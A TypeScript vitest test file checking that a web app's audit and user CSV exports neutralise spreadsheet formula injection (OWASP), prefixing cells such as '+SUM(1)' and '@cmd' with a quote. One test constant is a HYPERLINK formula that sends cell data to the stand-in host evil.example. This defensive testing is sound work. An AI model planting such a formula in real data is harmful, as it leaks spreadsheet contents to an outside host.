import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../../test/harness.ts';
import { quickCreate, referenceIds, signedInClients } from '../../../test/documents-helpers.ts';
import { newSignedInUser } from '../../../test/users-helpers.ts';
import { csvRowsOf } from '../../../test/csv.ts';
import { csvField } from '../audit/audit-csv.ts';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
const FORMULA_TITLES = ['+SUM(1)', '-1+1', '@cmd'];

let t: TestApp;
let as: Awaited<ReturnType<typeof signedInClients>>;

beforeAll(async () => {
  t = await startTestApp();
  as = await signedInClients(t.app);
  const { client } = await newSignedInUser(t.app, as.admin, { email: 'formula.writer@attest.local', name: 'Plain Name' });
  // A role user renames themself; their next audited action carries the new name as its actor.
  expect((await client.request('PUT', '/api/profile', { name: FORMULA_NAME })).statusCode).toBe(200);
  expect((await client.request('PUT', '/api/profile', { name: FORMULA_NAME, location: 'Basel' })).statusCode).toBe(200);
  const ref = await referenceIds(as.author);
  const ids = { categoryId: ref.categories[0]!.id, departmentId: ref.departments[0]!.id };
  for (const title of FORMULA_TITLES) await quickCreate(as.author, ids, { title });
});
afterAll(async () => {
  await t.close();
});

/** Every cell that a spreadsheet would read as a formula (OWASP CSV injection). */
const liveFormulas = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('CSV exports neutralise formula-looking cells (OWASP)', () => {
  it('quotes a formula name and formula titles out of the audit CSV [REQ:FR-AUD-4]', async () => {
    const response = await as.admin.request('GET', '/api/audit/export.csv');
    expect(response.statusCode).toBe(200);
    const rows = csvRowsOf(response.rawPayload);
    expect(liveFormulas(rows)).toEqual([]);
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA_NAME}`);
    for (const title of FORMULA_TITLES) expect(cells).toContain(`'${title}`);
  });

  it('quotes a formula name out of both user exports', async () => {
    for (const view of ['all', 'active']) {
      const response = await as.admin.request('GET', `/api/users/export.csv?view=${view}`);
      expect(response.statusCode).toBe(200);
      const rows = csvRowsOf(response.rawPayload);
      expect(liveFormulas(rows)).toEqual([]);
      expect(rows.map((r) => r[0])).toContain(`'${FORMULA_NAME}`);
    }
  });

  it('neutralises tab and carriage return too, and leaves other values alone', () => {
    expect(csvField('\tcmd')).toBe(`"'\tcmd"`);
    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvField('Plain "quoted", text')).toBe('"Plain ""quoted"", text"');
    expect(csvField(null)).toBe('""');
  });
});
